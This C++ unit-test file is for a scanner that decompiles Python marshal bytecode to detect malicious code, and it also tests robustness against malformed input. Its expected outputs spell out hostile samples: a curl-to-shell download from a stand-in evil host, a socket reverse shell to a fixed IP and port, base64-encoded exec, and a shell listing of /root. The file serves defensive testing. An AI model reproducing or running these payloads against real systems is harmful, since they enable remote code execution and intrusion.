#include <gtest/gtest.h>

#include <cstring>
#include <fstream>
#include <sstream>

#include "hubguard/scan/python/marshal_code.hpp"
#include "hubguard/scan/python/marshal_reader.hpp"

namespace hubguard::scan::python {
namespace {

std::string fixture(const std::string& name) {
  std::ifstream in(std::string(HUBGUARD_FIXTURES) + "/marshal/" + name, std::ios::binary);
  std::ostringstream s;
  s << in.rdbuf();
  return s.str();
}

PseudoSource source_of(const std::string& bytes) {
  auto r = marshalled_pseudo_source(as_bytes(bytes), ScanLimits{});
  EXPECT_TRUE(r.ok()) << (r.ok() ? "" : r.error().message);
  return r.ok() ? *r : PseudoSource{};
}

bool contains(const std::string& hay, const std::string& needle) { return hay.find(needle) != std::string::npos; }

// ---- real CPython 3.11 bytecode (tests/fixtures/make_marshal_fixtures.py) -----------------

TEST(MarshalFixtures, OsSystemBecomesACall) {
  auto s = source_of(fixture("os_system.bin"));
  EXPECT_EQ(s.family, BytecodeFamily::py311);
  EXPECT_TRUE(contains(s.text, "import os\n")) << s.text;
  EXPECT_TRUE(contains(s.text, "os.system('echo pwned')")) << s.text;
  EXPECT_NE(std::find(s.calls.begin(), s.calls.end(), "os.system"), s.calls.end());
}

TEST(MarshalFixtures, LambdaWithDynamicImport) {
  auto s = source_of(fixture("lambda_import_system.bin"));
  EXPECT_TRUE(contains(s.text, "def _lambda_(x):")) << s.text;
  EXPECT_TRUE(contains(s.text, "return __import__('os').system('curl http://evil.example/s.sh | sh')")) << s.text;
}

TEST(MarshalFixtures, FromImportAliasResolvesToTheRealCallee) {
  auto s = source_of(fixture("from_import_alias.bin"));
  EXPECT_TRUE(contains(s.text, "subprocess.check_output(['id'])")) << s.text;
}

TEST(MarshalFixtures, KeywordArguments) {
  auto s = source_of(fixture("subprocess_kwargs.bin"));
  EXPECT_TRUE(contains(s.text, "subprocess.run('ls -la /root', shell=True, check=False)")) << s.text;
}

TEST(MarshalFixtures, ReverseShellFunction) {
  auto s = source_of(fixture("reverse_shell_function.bin"));
  EXPECT_TRUE(contains(s.text, "def connect():")) << s.text;
  EXPECT_TRUE(contains(s.text, "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)")) << s.text;
  EXPECT_TRUE(contains(s.text, "s.connect(('10.13.37.1', 4444))")) << s.text;
  EXPECT_TRUE(contains(s.text, "os.dup2(s.fileno(), 0)")) << s.text;
  EXPECT_TRUE(contains(s.text, "pty.spawn('/bin/sh')")) << s.text;
}

TEST(MarshalFixtures, StringConstantsAreListed) {
  auto s = source_of(fixture("exec_b64.bin"));
  EXPECT_TRUE(contains(s.text, "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))")) << s.text;
  EXPECT_NE(std::find(s.strings.begin(), s.strings.end(), "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="), s.strings.end());
}

TEST(MarshalFixtures, BenignCodeHasNoDangerousCalls) {
  auto s = source_of(fixture("benign_math.bin"));
  EXPECT_TRUE(contains(s.text, "def add(a, b):")) << s.text;
  EXPECT_TRUE(contains(s.text, "return a + b")) << s.text;
  for (const auto& c : s.calls) EXPECT_EQ(c, "add");
}

TEST(MarshalFixtures, CodeEvidenceIsBytecode) {
  auto e = code_from_marshal(as_bytes(fixture("os_system.bin")), ScanLimits{});
  ASSERT_TRUE(e.has_value());
  EXPECT_EQ(e->kind, CodeKind::bytecode);
  EXPECT_TRUE(contains(e->via, "3.11"));
  EXPECT_FALSE(code_from_marshal(as_bytes(std::string("not marshal")), ScanLimits{}).has_value());
}

// ---- other versions, hand-described from CPython's marshal.c and opcode.py ----------------

// A minimal marshal writer for test inputs.
struct W {
  std::string b;
  W& byte(int c) { b.push_back(static_cast<char>(c)); return *this; }
  W& i32(std::int32_t v) {
    for (int i = 0; i < 4; ++i) b.push_back(static_cast<char>((static_cast<std::uint32_t>(v) >> (8 * i)) & 0xff));
    return *this;
  }
  W& bytes(const std::string& s) { byte('s').i32(static_cast<std::int32_t>(s.size())); b += s; return *this; }
  W& str(const std::string& s) { byte('z').byte(static_cast<int>(s.size())); b += s; return *this; }
  W& small_tuple(int n) { return byte(')').byte(n); }
};

std::string ops(std::initializer_list<std::pair<int, int>> list) {
  std::string s;
  for (auto [op, arg] : list) {
    s.push_back(static_cast<char>(op));
    s.push_back(static_cast<char>(arg));
  }
  return s;
}

// `import os; os.system('x')` as a 3.6-3.10 module code object.
std::string legacy_module(bool posonly, bool method_calls) {
  W w;
  w.byte('c').i32(0);
  if (posonly) w.i32(0);
  w.i32(0).i32(0).i32(2).i32(64);
  const std::string code =
      method_calls ? ops({{100, 0}, {100, 1}, {108, 0}, {90, 0}, {101, 0}, {160, 1}, {100, 2}, {161, 1}, {1, 0}, {100, 1}, {83, 0}})
                   : ops({{100, 0}, {100, 1}, {108, 0}, {90, 0}, {101, 0}, {106, 1}, {100, 2}, {131, 1}, {1, 0}, {100, 1}, {83, 0}});
  w.bytes(code);
  w.small_tuple(3).byte('i').i32(0).byte('N').str("x");  // consts
  w.small_tuple(2).str("os").str("system");              // names
  w.small_tuple(0).small_tuple(0).small_tuple(0);         // varnames freevars cellvars
  w.str("<x>").str("<module>").i32(1).bytes("");
  return w.b;
}

TEST(MarshalLayouts, Python36LayoutWithCallFunction) {
  auto s = source_of(legacy_module(false, false));
  EXPECT_EQ(s.family, BytecodeFamily::py36_310);
  EXPECT_TRUE(contains(s.text, "os.system('x')")) << s.text;
}

TEST(MarshalLayouts, Python38LayoutWithLoadMethod) {
  auto s = source_of(legacy_module(true, true));
  EXPECT_EQ(s.family, BytecodeFamily::py36_310);
  EXPECT_TRUE(contains(s.text, "os.system('x')")) << s.text;
}

TEST(MarshalLayouts, Python312LoadAttrMethodBitAndReturnConst) {
  W w;
  w.byte('c').i32(0).i32(0).i32(0).i32(3).i32(0);
  std::string code = ops({{151, 0}, {100, 0}, {100, 1}, {108, 0}, {90, 0}, {101, 0}, {106, (1 << 1) | 1}});
  code += std::string(9 * 2, '\0');  // LOAD_ATTR's inline cache
  code += ops({{100, 2}, {171, 1}});
  code += std::string(3 * 2, '\0');
  code += ops({{1, 0}, {121, 1}});
  w.bytes(code);
  w.small_tuple(3).byte('i').i32(0).byte('N').str("x");
  w.small_tuple(2).str("os").str("system");
  w.small_tuple(0).bytes("");                          // localsplusnames, kinds
  w.str("<x>").str("<module>").str("<module>").i32(1).bytes("").bytes("");
  auto s = source_of(w.b);
  EXPECT_EQ(s.family, BytecodeFamily::py312);
  EXPECT_TRUE(contains(s.text, "os.system('x')")) << s.text;
}

TEST(MarshalValues, ScalarsContainersAndRefs) {
  W w;
  // [None, True, 7, 2**40 (long), 1.5, b'ab', 'é', ref->'é', frozenset(), {'k': 1}]
  w.byte('[').i32(10).byte('N').byte('T').byte('i').i32(7);
  w.byte('l').i32(3).byte(0).byte(0).byte(0).byte(0).byte(0).byte(0x04);  // 1 << 40: digits 0, 0, 1 << 10
  w.byte('g');
  const double d = 1.5;
  std::uint64_t bits;
  std::memcpy(&bits, &d, 8);
  for (int i = 0; i < 8; ++i) w.byte(static_cast<int>((bits >> (8 * i)) & 0xff));
  w.bytes("ab");
  w.byte('u' | 0x80).i32(2).byte(0xc3).byte(0xa9);
  w.byte('r').i32(0);
  w.byte('>').i32(0);
  w.byte('{').str("k").byte('i').i32(1).byte('0');
  auto doc = read_marshal(as_bytes(w.b));
  ASSERT_TRUE(doc.ok()) << doc.error().message;
  const auto& items = doc->root->items;
  ASSERT_EQ(items.size(), 10u);
  EXPECT_EQ(items[2]->integer, 7);
  EXPECT_EQ(items[3]->integer, 1LL << 40);
  EXPECT_EQ(items[4]->real, 1.5);
  EXPECT_EQ(items[5]->text, "ab");
  EXPECT_EQ(items[6].get(), items[7].get());  // a back-reference shares the node
  EXPECT_EQ(items[8]->kind, MarshalValue::Kind::frozenset);
  EXPECT_EQ(items[9]->items.size(), 2u);
  EXPECT_FALSE(doc->has_code);
}

// ---- hostile input ------------------------------------------------------------------------

TEST(MarshalHostile, TruncatedFixturesAreErrorsAtEveryLength) {
  const std::string full = fixture("reverse_shell_function.bin");
  for (std::size_t n = 0; n < full.size(); ++n)
    EXPECT_FALSE(read_marshal(as_bytes(std::string_view(full).substr(0, n))).ok()) << n;
  EXPECT_TRUE(read_marshal(as_bytes(full)).ok());
}

TEST(MarshalHostile, HugeCountsAreRejectedWithoutAllocating) {
  W w;
  w.byte('(').i32(0x7fffffff);
  EXPECT_FALSE(read_marshal(as_bytes(w.b)).ok());
  W s;
  s.byte('s').i32(0x7ffffff0);
  EXPECT_FALSE(read_marshal(as_bytes(s.b)).ok());
  W l;
  l.byte('l').i32(-0x7fffffff);
  EXPECT_FALSE(read_marshal(as_bytes(l.b)).ok());
}

TEST(MarshalHostile, DeepNestingIsBounded) {
  W w;
  for (int i = 0; i < 100000; ++i) w.byte('[').i32(1);
  w.byte('N');
  auto r = read_marshal(as_bytes(w.b));
  ASSERT_FALSE(r.ok());
  EXPECT_TRUE(contains(r.error().message, "nesting")) << r.error().message;
}

TEST(MarshalHostile, SelfReferenceLoopsAndSharedGraphsStayCheap) {
  W loop;
  loop.byte('[' | 0x80).i32(1).byte('r').i32(0);  // l = [l]
  auto r = read_marshal(as_bytes(loop.b));
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(r->root->items[0]->kind, MarshalValue::Kind::unresolved_ref);
  // 60 levels of (x, x): 2^60 leaves if expanded.
  W laughs;
  laughs.byte('z' | 0x80).byte(1).byte('a');
  for (int i = 1; i <= 60; ++i) laughs.byte(')' | 0x80).byte(2).byte('r').i32(i - 1).byte('r').i32(i - 1);
  auto doc = read_marshal(as_bytes(laughs.b));
  ASSERT_TRUE(doc.ok()) << doc.error().message;
  EXPECT_LT(render_constant(*doc->root).size(), 10000u);
  EXPECT_EQ(pseudo_source(*doc).strings.size(), 1u);
}

TEST(MarshalHostile, RefOutOfRangeAndUnknownTypeAreErrors) {
  W r;
  r.byte('r').i32(5);
  EXPECT_FALSE(read_marshal(as_bytes(r.b)).ok());
  EXPECT_FALSE(read_marshal(as_bytes(std::string("\x01", 1))).ok());
}

TEST(MarshalHostile, CorruptedBytecodeNeverCrashes) {
  std::string base = fixture("reverse_shell_function.bin");
  auto doc = read_marshal(as_bytes(base));
  ASSERT_TRUE(doc.ok());
  // Flip bytes inside the file; every variant must parse or fail cleanly.
  for (std::size_t i = 0; i < base.size(); i += 3) {
    std::string mutated = base;
    mutated[i] = static_cast<char>(mutated[i] ^ 0x5a);
    auto r = marshalled_pseudo_source(as_bytes(mutated), ScanLimits{});
    if (r.ok()) {
      EXPECT_LE(r->text.size(), ScanLimits{}.max_source_size + 8);
    }
  }
}

}  // namespace
}  // namespace hubguard::scan::python
